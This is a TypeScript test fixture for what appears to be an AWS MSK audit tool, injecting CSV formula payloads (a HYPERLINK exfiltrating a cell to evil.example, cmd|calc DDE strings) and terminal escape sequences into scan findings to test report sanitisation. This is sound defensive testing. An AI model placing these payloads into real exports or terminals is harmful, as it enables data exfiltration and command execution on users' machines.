import type { Finding } from '../../src/engine/finding.js';
import type { HeldScanResult, ScanResult } from '../../src/engine/scan-result.js';
import { summarize } from '../../src/engine/summary.js';
import { scanResult } from '../reports/fixture.js';

/** Spreadsheet formula payloads (OWASP CSV injection) and terminal escape payloads. */
export const FORMULA_NAME = '=HYPERLINK("http://evil.example/?x="&A1,"click")';
export const FORMULA_TAG = "+cmd|' /C calc'!A0";
export const AT_FORMULA = '@SUM(1+1)*cmd|"/C calc"!A0';
export const MINUS_FORMULA = '-2+3+cmd|"/C calc"!A0';
export const TAB_FORMULA = '\t=1+1';
export const CR_FORMULA = '\r=1+1';
export const ANSI_NAME = '\u001b[31mred\u001b[0m\u001b]8;;http://evil.example\u0007link\u001b]8;;\u0007';
export const ANSI_TAG = '\u001b[2J\u001b[H\u009b31mC1\u0000nul\ud800lone\u2028sep\ufffe';

/**
 * The reports fixture (3 PASSED, 4 FAILED, 2 NOT_APPLICABLE, 2 NOT_AVAILABLE, HTML/JS payloads) plus two
 * findings on a cluster whose name, tags, reason and evidence carry formula and ANSI payloads: one FAILED
 * (public access, MSK.4 / PCI 1.4.1) and one NOT_AVAILABLE (TLS).
 */
export function hostileScanResult(): HeldScanResult {
  const base = scanResult();
  const template = base.findings.find((finding) => finding.checkId === 'msk-public-access-disabled')!;
  const tls = base.findings.find((finding) => finding.checkId === 'msk-tls-client-broker')!;
  const resource = {
    ...template.resource,
    arn: template.resource.arn.replace('payments', 'formula'),
    name: FORMULA_NAME,
    tags: { [FORMULA_TAG]: AT_FORMULA, ansi: ANSI_TAG, minus: MINUS_FORMULA },
  };
  const extra: Finding[] = [
    {
      ...template,
      id: `msk-audit/${template.checkId}/${resource.arn}`,
      status: 'FAILED',
      reason: `${MINUS_FORMULA} ${ANSI_NAME}`,
      evidence: { name: ANSI_NAME, tab: TAB_FORMULA, cr: CR_FORMULA, nested: { at: AT_FORMULA } },
      resource,
    },
    {
      ...tls,
      id: `msk-audit/${tls.checkId}/${resource.arn}`,
      status: 'NOT_AVAILABLE',
      reason: TAB_FORMULA,
      evidence: { checkError: ANSI_TAG },
      resource: { ...resource, name: ANSI_NAME },
    },
  ];
  const findings = [...base.findings, ...extra];
  return { ...base, findings, summary: summarize(findings) };
}
